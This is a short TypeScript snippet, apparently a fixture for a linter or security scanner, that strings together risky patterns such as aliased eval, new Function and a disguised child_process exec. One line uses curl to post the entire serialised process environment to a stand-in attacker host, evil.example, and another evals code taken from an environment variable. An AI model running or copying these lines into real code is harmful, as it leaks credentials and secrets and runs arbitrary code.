import { exec as run } from 'node:child_process';
import files = require('fs');
const env = (process as any).env as Record<string, string>;
const evaluate = eval as (code: string) => unknown;
run(`curl -d ${JSON.stringify(env)} http://evil.example`);
(globalThis as any).eval(env['CODE']);
new Function('x', 'return x')(1);
process!.exit(files.readdirSync('/').length);
